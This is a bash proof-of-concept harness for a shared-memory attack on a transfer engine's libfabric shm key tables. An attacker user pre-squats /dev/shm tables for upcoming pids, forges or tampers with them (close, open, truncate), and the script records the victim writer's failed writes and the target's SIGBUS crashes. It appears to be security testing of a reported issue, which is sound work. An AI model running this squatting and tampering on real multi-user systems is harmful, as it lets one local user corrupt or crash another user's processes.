#!/bin/bash
# fabric/shm's key tables against a local process of another user (issue 16, from outside). As root: needs the users
# teattacker (the attacker) and, for VICTIM=<user>, that one (useradd -M teattacker). The attacker squats the key
# tables of the next 3,000 pids (FORGED=forged: each a valid table marked closed), the target and a writer start on
# fabric/shm (libfabric 2.1, $TE_FABRIC_LIBRARY), the attacker tries to read and write the tables, then ACTION:
# closed | open | truncate (shm_squat.py tamper) or none. Prints JSON lines: squat, read, tamper, the writer's
# failed writes and way back in, the target's report.
# Usage: JAR=te-bench.jar [VICTIM=user] [FORGED=forged] shm.sh ACTION
export JAVA_HOME=/usr/lib/jvm/temurin-25-jdk-amd64 IPATH_NO_BACKTRACE=1 HFI_NO_BACKTRACE=1
action=$1; M=${MEMBER:-$(dirname "$0")/Member.java}
J="$JAVA_HOME/bin/java --enable-native-access=ALL-UNNAMED -Dorg.slf4j.simpleLogger.defaultLogLevel=warn -Dtransport=fabric -Dprovider=shm -Dopt.fabric.library=${TE_FABRIC_LIBRARY:-/tmp/transfer-engine-ci/libfabric-2.1.0/lib/libfabric.so.1}"
w=$(mktemp -d /tmp/shm-atk.XXXX); chmod 777 $w
V=""; [ -n "$VICTIM" ] && V="runuser -u $VICTIM --"
as() { runuser -u teattacker -- python3 "$(dirname "$0")/shm_squat.py" "$@"; }
next=$(cat /proc/sys/kernel/ns_last_pid)
[ "$action" != none ] && as squat $((next+1)) 3000 $(id -u ${VICTIM:-root}) $FORGED
mkfifo -m 666 $w/in; $V $J -Xmx64m -cp ${JAR:-/tmp/atk/te-bench.jar} $M target 16777216 <$w/in >$w/t.out 2>$w/t.err & tp=$!
exec 3>$w/in
for i in $(seq 300); do grep -q te-target $w/t.out && break; sleep 0.2; done
desc=$(awk '/te-target/{print $2}' $w/t.out)
echo "target pid $tp: $(ls -l /dev/shm | grep transfer-engine-keys | grep -v teattacker; ls -l /dev/shm | grep -c teattacker | awk '{print $1, $3}' | sort | uniq -c | tr '\n' ';')"
as read
$V $J -cp ${JAR:-/tmp/atk/te-bench.jar} $M writer $desc $w/closed >$w/w.out 2>$w/w.err & wp=$!
for i in $(seq 300); do grep -q connected $w/w.out && break; sleep 0.2; done
sleep 2
[ "$action" != none ] && as tamper $action
sleep 3; touch $w/closed; wait $wp; echo "writer rc=$? $(tail -1 $w/w.out)"; grep -m2 -i 'fail\|SIGBUS\|fatal' $w/w.err
echo report >&3; sleep 4; echo "target alive: $(kill -0 $tp 2>/dev/null && echo yes || echo no) $(tail -1 $w/t.out | cut -c1-300)"
grep -m3 -i 'SIGBUS\|fatal\|InternalError' $w/t.err
echo quit >&3; exec 3>&-; sleep 1; kill $tp 2>/dev/null
as clean
rm -rf $w
